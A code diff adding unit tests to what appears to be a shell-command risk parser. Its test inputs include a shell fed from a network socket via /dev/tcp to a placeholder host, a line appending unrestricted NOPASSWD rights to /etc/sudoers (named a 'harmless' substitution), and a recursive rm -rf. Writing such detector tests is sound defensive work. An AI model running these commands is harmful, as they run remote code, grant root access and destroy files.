@@ -594,6 +594,25 @@ def test_parse_dynamic_output_is_not_decoded() -> None:
     assert "dynamic_code" in result.flags
 
 
+def test_parse_shell_reading_dev_tcp_is_network() -> None:
+    result = parse("bash < /dev/tcp/192.0.2.8/4444")
+    assert _find(result, "bash").stdin_is_network
+    assert "dynamic_code" in result.flags
+
+
+def test_parse_harmless_value_substitutions_stay_resolved() -> None:
+    result = parse('echo "$(whoami) ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers; make -j$(nproc)')
+    assert _find(result, "echo").args == ["root ALL=(ALL) NOPASSWD: ALL"]
+    assert _find(result, "make").args == ["-j2"]
+    assert "unresolved" not in result.flags
+    assert "command_substitution" not in _find(result, "echo").obfuscation
+
+
+def test_parse_cd_then_pwd_substitution() -> None:
+    result = parse("cd /srv && rm -rf $(pwd)/*")
+    assert _find(result, "rm").args == ["-rf", "/srv/*"]
+
+
 def test_parse_deep_wrapper_chain() -> None:
     result = parse("sudo env nice timeout 5 nohup setsid stdbuf -o0 rm -rf /x")
     inner = _find(result, "rm")
